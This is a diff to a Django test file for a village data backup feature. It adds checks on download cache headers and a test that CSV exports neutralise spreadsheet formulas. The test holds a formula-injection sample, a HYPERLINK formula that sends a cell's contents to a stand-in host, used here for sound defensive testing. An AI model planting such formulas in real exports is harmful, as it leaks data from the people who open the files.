@@ -132,5 +132,27 @@ def test_an_admin_builds_and_downloads_the_archive_and_it_is_audited(login, alic
         reverse("backups_dashboard:backup_download", kwargs={"slug": "dagan", "pk": export.pk})
     )
     assert response["Content-Type"] == "application/zip"
+    assert response["Content-Disposition"].startswith('attachment; filename="cadangan-dagan-')
+    # Residents' personal data: no browser or proxy cache may keep a copy.
+    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
     assert b"".join(response.streaming_content)[:2] == b"PK"
     assert AuditEntry.objects.filter(action="village.export_download", actor=alice).exists()
+
+
+def test_formulas_are_text_in_the_csv_copies_and_unchanged_in_the_json(dagan, tmp_path):
+    formula = '=HYPERLINK("http://contoh.id/?"&A2,"Klik")'
+    Official.objects.create(village=dagan, name=formula, position="@SUM(1+1)")
+    first, second = tmp_path / "1.zip", tmp_path / "2.zip"
+    village_archive_write(village=dagan, target=first)
+    with zipfile.ZipFile(first) as zf:
+        csv_text = zf.read("data/villages.official.csv").decode("utf-8-sig")
+        rows = json.loads(zf.read("data/villages.official.json"))
+    assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text
+    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
+    assert rows[0]["name"] == formula and rows[0]["position"] == "@SUM(1+1)"
+    village_rows_purge(village=dagan)
+    restored = village_restore(path=str(first))
+    assert restored.officials.get().name == formula
+    village_archive_write(village=restored, target=second)
+    one, two = _data_files(first), _data_files(second)
+    assert [n for n in one if one[n] != two[n]] == []
